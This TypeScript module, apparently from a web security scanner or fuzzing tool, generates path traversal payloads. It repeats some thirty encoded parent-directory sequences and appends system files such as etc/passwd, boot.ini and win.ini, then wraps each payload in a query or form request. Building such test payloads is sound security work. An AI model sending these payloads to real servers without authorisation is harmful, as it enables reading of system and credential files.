/** A short unit repeated, then a well-known file: whatever the unit is, some server reads it as a parent directory. */
import type { Attack } from '../attacks.ts';
import { places } from '../places.ts';
import { Random, seedFrom } from '../random.ts';

const units = [
  '../',
  '..\\',
  '..%2f',
  '..%255c',
  '%2e%2e%5c',
  '..%c0%af',
  '..%c0%2f',
  '..%c1%8s',
  '..%bg%qf',
  '..%e0%80%af',
  '..%f0%80%80%af',
  '..%u2215',
  '..%uEFC8',
  '0x2e0x2e/',
  '0x2e0x2e0x5c',
  '%%32%65%%32%65/',
  '%c0%2e%c0%2e/',
  '.%00./',
  '..;/',
  '..\\/',
  '...\\.\\',
  '..%5c..%2f',
  '.%5c%2e/',
  '%ae%ae/',
  '..||/',
  '.?/',
  '<../>',
  '..%09/',
  '//..',
  '%uff0e%uff0e/',
];
const files = ['etc/passwd', 'boot.ini', 'windows/win.ini', 'etc/issue', 'winnt/system32/drivers/etc/hosts'];
const counts = [3, 6, 9];

export function listRepeatedUnits(): readonly Attack[] {
  return units.flatMap((unit, index) =>
    files.map((file, at): Attack => {
      const payload = unit.repeat(counts[(index + at) % counts.length]!) + file;
      const place = places.find(({ name }) => name === (at % 2 === 0 ? 'query' : 'form'))!;
      const random = new Random(seedFrom(payload));
      const percent = (text: string): string => text.replaceAll('&', '%26').replaceAll(' ', '%20');
      const request = place.build({ value: payload, name: 'file', random, transport: { percent } });
      return { class: 'traversal', place: place.name, disguise: unit, payload, request };
    }),
  );
}
